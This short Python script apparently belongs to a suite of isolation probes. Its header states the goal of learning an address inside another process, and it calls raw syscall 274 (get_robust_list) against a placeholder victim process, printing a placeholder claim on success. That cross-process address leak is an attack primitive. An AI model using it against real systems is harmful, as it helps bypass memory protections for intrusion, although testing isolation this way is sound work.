"""
goal: learn an address inside another process
effect: claim
needs: x86_64
"""

import ctypes

head, size = ctypes.c_void_p(), ctypes.c_size_t()
if ctypes.CDLL(None).syscall(274, VICTIM, ctypes.byref(head), ctypes.byref(size)) == 0:
    print(CLAIM)
